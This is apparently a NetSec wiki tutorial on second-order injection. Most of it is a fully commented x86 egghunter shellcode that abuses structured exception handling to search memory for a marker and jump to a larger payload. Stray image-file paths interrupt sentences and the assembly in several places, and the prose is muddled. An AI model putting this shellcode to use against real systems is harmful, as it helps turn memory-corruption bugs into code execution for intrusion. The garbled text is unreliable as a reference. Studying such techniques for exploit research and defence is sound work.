Questions about this topic? Sign up to ask in the talk tab.

Second-order-injection attack

From NetSec
Jump to: navigation, search

Second-order-injection Explaned

Second-order injection is typically used when a buffer is too small for a standard shellcode payload. Second-order injection allows for the attacker to place the payload in one input and the actual bufferoverflow with a smaller shellcode that will locate the real payload in the buffer.

The Egghunt

The primary purpose of an egghunt is for undersized buffers during a buffer overflow attack are used to find in a second order injection attack. You can look for a specific "marker" in memory if you will for where your shellcode starts, then look for that marker and jump to the code.

<syntaxhighlight lang="asm"> egghunt: jmp startup ; skip the exception handler exception_handler: mov eax, [esp + 0x0c] ; get context arg to EH off the stack lea ebx, [eax + 0x7c] ; load effective addr of context plus 0x7c (124) into ebx ; done to prevent nulls and max_byte_size add ebx, 0x3c ; complete addr from above... add [ebx], 0x07 ; add 7 bytes to eip to skip egg found and jmps to it ; by skipping the ptr is incremented and loop continues mov eax, [esp] ; grab ret from stack store in eax add esp, 0x14 ; bypasses a windows stackprotect, does retn 0x10 push eax ; ret addy goes back on the stack xor eax, eax ; nulled ret startup: mov eax, 0x42904290 ; init eax to the egg to find jmp init_exception_handler_skip init_exception_handler_fwd: jmp init_exception_handler ; obtain absolute addy init_exception_handler_skip: call init_exception_handler_fwd ; call backwards to push the abs. addr of pop ecx onto the stack init_exception_handler: pop ecx ; put the abs addr of this line and put it in ecx. SEH abuse anyone? sub ecx, 0x25 ; calc abs addr of the EHby subbing 0x25 (37) from the addr push esp ; push placeholder to be passed to the SEH push ecx ; push abs addr of init_exception_handler xor ebx, ebx ; nulled not ebx ; makes it 0xffffffff push ebx ; indicate no more exception handlers xor edi, edi ; zero edi, will be offset in fs handler mov fs:[edi], esp ; move the structure for the custom EH into fs[0], makes custom EH.search_loop_begin_pre: search_loop_start: xor ecx, ecx ; ecx will be a counter.. mov cl, 0x2 ; set stuff to be checked by scasd push edi ; preserve current ptr to stack repe scasd ; compare egg to current ptr, make sureegg is found backtoback in memory (nopsled!) jnz search_loop_failed ; keep looping if ZF aint set pop edi ; restore to orig. value jmp edi ; jump to our "egg" (ourbigger shellcode) search_loop_failed: pop edi ; restore to orig. value inc edi ;inc it to test next ptr jmp search_loop_start ; start this shit over